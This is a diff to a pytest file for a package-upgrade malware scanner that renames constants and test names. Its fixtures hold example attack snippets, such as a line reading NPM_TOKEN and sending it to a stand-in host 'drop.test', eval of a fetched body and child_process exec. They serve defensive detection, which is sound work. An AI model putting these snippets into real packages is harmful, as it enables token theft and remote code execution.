@@ -1,4 +1,4 @@
-"""Each signal sees what it is there for, with its whole weight, and not the near miss."""
+"""Tests of all signals: an example that gets the full weight, and a near miss."""
 
 from dataclasses import replace
 from datetime import datetime, timedelta
@@ -11,9 +11,9 @@ from worker.risk import SIGNALS
 
 B64 = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVph" * 8
 READS_KEY = "const key = process.env.NPM_TOKEN"
-ASKS = "https.get('https://drop.test/' + key)"
+SENDS = "https.get('https://drop.test/' + key)"
 SCRIPT = {"scripts": {"postinstall": "node setup.js"}}
-RUNS = "require('child_process').exec(x)"
+EXECUTES = "require('child_process').exec(x)"
 
 
 def _code(*lines: str) -> Change:
@@ -28,11 +28,11 @@ def _dated(old: datetime | None, new: datetime | None) -> Change:
     return upgrade(before={"published": old}, after={"published": new})
 
 
-UNREAD = replace(added("lib/a.js", "x"), whole=False)
-LONG = replace(changed("lib/a.js"), longest=5000, longest_before=80)
+UNREAD = replace(added("lib/a.js", "x"), complete=False)
+LONG = replace(changed("lib/a.js"), longest_line=5000, longest_line_before=80)
 TRUSTED = {"publisher": "other", "provenance": True}
 PROVEN = {"provenance": True}
-# id: what it sees with its whole weight, and what is not that
+# id: example with the full weight, near miss
 EXAMPLES = {
     "scripts.lifecycle": (upgrade(new=SCRIPT), upgrade(old=SCRIPT, new=SCRIPT)),
     "scripts.target": (
@@ -75,7 +75,7 @@ EXAMPLES = {
         upgrade(added("lib/a\u202egnp.js", "x")),
         upgrade(added("lib/ünïcode-日本語.js", "x"), added(".eslintrc.js", "x")),
     ),
-    "files.unread": (upgrade(UNREAD), upgrade(replace(UNREAD, whole=True))),
+    "files.unread": (upgrade(UNREAD), upgrade(replace(UNREAD, complete=True))),
     "files.tooling": (
         upgrade(added(".github/workflows/a.yml", "x")),
         upgrade(added("docs/workflows/a.yml", "x")),
@@ -85,7 +85,7 @@ EXAMPLES = {
         upgrade(added("a.sh", "x")),
     ),
     "files.grown": (_large(10_000, 5_000_000), _large(10_000, 500_000)),
-    "code.minified": (upgrade(LONG), upgrade(replace(LONG, longest_before=4000))),
+    "code.minified": (upgrade(LONG), upgrade(replace(LONG, longest_line_before=4000))),
     "code.off-screen": (_code("a" + " " * 200 + "b()"), _code(" " * 100 + "b()" + " " * 200)),
     "code.obfuscated": (_code("const _0x3f2a = 1"), _code("const flags = 0x3f2a, a_0x3f = 1")),
     "code.invisible": (
@@ -137,16 +137,16 @@ EXAMPLES = {
     ),
     "provenance.lost": (upgrade(before=PROVEN), upgrade(before=PROVEN, after=PROVEN)),
     "together.exfiltration": (
-        _code(READS_KEY, ASKS),
-        upgrade(changed("a.js", READS_KEY), changed("b.js", ASKS)),
+        _code(READS_KEY, SENDS),
+        upgrade(changed("a.js", READS_KEY), changed("b.js", SENDS)),
     ),
     "together.dropper": (
-        _code(ASKS, "eval(body)"),
-        upgrade(changed("a.js", "eval(body)"), changed("b.js", ASKS)),
+        _code(SENDS, "eval(body)"),
+        upgrade(changed("a.js", "eval(body)"), changed("b.js", SENDS)),
     ),
     "together.hidden-code": (
-        _code("const a = crypto.createDecipher(x)", RUNS),
-        upgrade(changed("a.js", "crypto.createDecipher(x)"), changed("b.js", RUNS)),
+        _code("const a = crypto.createDecipher(x)", EXECUTES),
+        upgrade(changed("a.js", "crypto.createDecipher(x)"), changed("b.js", EXECUTES)),
     ),
     "together.takeover": (
         upgrade(new={"dependencies": {"a": "1"}}, after={"publisher": "other"}),
@@ -155,16 +155,16 @@ EXAMPLES = {
 }
 
 
-def test_every_signal_has_its_examples():
+def test_each_signal_has_examples():
     assert sorted(EXAMPLES) == sorted(SIGNALS)
 
 
 @pytest.mark.parametrize("id_", EXAMPLES)
-def test_it_sees_what_it_is_there_for_and_not_the_near_miss(id_: str):
-    seen, missed = EXAMPLES[id_]
-    weights = [finding.weight for finding in SIGNALS[id_].findings(seen, NOW)]
+def test_a_signal_finds_its_example_with_full_weight_and_not_the_near_miss(id_: str):
+    example, near_miss = EXAMPLES[id_]
+    weights = [finding.weight for finding in SIGNALS[id_].findings(example, NOW)]
     assert max(weights, default=0) == SIGNALS[id_].weight
-    assert list(SIGNALS[id_].detect(missed, NOW)) == []
+    assert list(SIGNALS[id_].detect(near_miss, NOW)) == []
 
 
 def _weight(id_: str, change: Change) -> float:
@@ -212,11 +212,11 @@ def _weight(id_: str, change: Change) -> float:
         ("together.exfiltration", _code(READS_KEY, "fetch(url + key)"), 0.45),
     ],
 )
-def test_a_finding_weighs_less_where_it_means_less(id_: str, change: Change, weight: float):
+def test_a_weaker_sign_has_a_lower_weight(id_: str, change: Change, weight: float):
     assert _weight(id_, change) == weight
 
 
-def test_a_test_that_the_manifest_starts_is_code():
+def test_a_test_that_is_an_entry_point_counts_as_code():
     file = changed("test/start.js", "eval(code)")
     assert _weight("code.eval", upgrade(file, new={"bin": {PACKAGE: "./test/start.js"}})) == 0.4
     assert _weight("code.eval", upgrade(file, new={"main": "test/start"})) == 0.4
@@ -224,38 +224,38 @@ def test_a_test_that_the_manifest_starts_is_code():
     assert _weight("code.eval", upgrade(file, new={"exports": {".": ["./tests"]}})) == 0.1
 
 
-def test_an_inlined_source_map_is_no_packed_code():
+def test_an_inlined_source_map_is_not_minified_code():
     line = "//# sourceMappingURL=data:application/json;base64," + "QUJD" * 1000
     mapped = changed("lib/a.js", line)
-    assert mapped.longest > 4000
+    assert mapped.longest_line > 4000
     assert _weight("code.minified", upgrade(mapped)) == 0
     assert _weight("code.minified", upgrade(changed("lib/a.js", line, "x;" * 2000))) == 0.5
 
 
-def test_a_host_is_named_once_and_not_where_it_was_known():
+def test_a_new_host_is_found_once_and_a_known_host_is_not_found():
     first, known = "load('https://a.test/1')", "load('https://b.test/1')"
     file = changed("lib/a.js", first, first, known)
     host = SIGNALS["strings.host"]
     assert [f.line for f in host.detect(upgrade(file), NOW)] == [10, 12]
-    removed = upgrade(file, changed("lib/b.js", gone=(known,)))
+    removed = upgrade(file, changed("lib/b.js", removed_lines=(known,)))
     assert [f.line for f in host.detect(removed, NOW)] == [10]
     manifest = {"repository": {"url": "git+https://B.test/x.git"}}
     assert [f.line for f in host.detect(upgrade(file, old=manifest), NOW)] == [10]
 
 
-def test_a_remark_or_one_variable_is_no_part_of_what_is_grave_together():
+def test_a_comment_or_one_variable_is_not_part_of_a_combined_signal():
     change = _code("const proxy = process.env.HTTP_PROXY", "// see ~/.npmrc", "fetch(url)")
     assert _weight("code.credentials", change) > 0
     assert _weight("together.exfiltration", change) == 0
 
 
-def test_a_document_that_the_manifest_starts_is_code():
+def test_a_document_that_is_an_entry_point_counts_as_code():
     file = changed("LICENSE.md", "eval(code)")
     assert _weight("code.eval", upgrade(file, new={"main": "./LICENSE.md"})) == 0.4
     assert _weight("code.eval", upgrade(file, new={"exports": {"./l": "./LICENSE.md"}})) == 0
 
 
-def test_a_name_that_begins_like_a_version_is_a_name():
+def test_only_the_version_is_compared_without_a_leading_v():
     change = replace(upgrade(new={"name": "vite"}), package="vite")
     assert _weight("manifest.identity", change) == 0
     assert _weight("manifest.identity", upgrade(new={"version": "1.2.2"})) == 0.6
@@ -269,7 +269,7 @@ def test_a_name_that_begins_like_a_version_is_a_name():
         {"bundledDependencies": [[], 1], "name": None, "version": ["x"], "module": True},
     ],
 )
-def test_a_manifest_of_any_shape_is_read(manifest: dict[str, object]):
+def test_a_manifest_of_any_shape_is_accepted(manifest: dict[str, object]):
     change = upgrade(added("test/a.js", "x"), old=manifest, new=manifest)
     for signal in SIGNALS.values():
         list(signal.detect(change, NOW))
